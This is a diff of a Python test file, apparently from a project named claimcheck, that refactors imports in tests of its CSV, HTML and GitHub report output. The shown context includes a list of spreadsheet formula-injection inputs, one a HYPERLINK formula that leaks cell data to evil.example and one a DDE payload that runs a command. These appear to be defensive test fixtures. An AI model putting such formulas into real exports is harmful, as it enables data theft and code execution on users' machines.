@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -16,9 +15,8 @@ from claimcheck.registry.load import load_registry
 from claimcheck.report import claims as claims_report
 from claimcheck.report import csv as csv_report
 from claimcheck.report import github, html
-from tests.robustness.conftest import FIXTURE_REGISTRY, CliRun, shipped
+from tests.robustness.conftest import FIXTURE_REGISTRY, Cli, shipped
 
-Cli = Callable[..., CliRun]
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?leak="&A1, "Ketamine is completely safe.")',
     "+cmd|' /C calc'!A0 Ketamine is completely safe.",
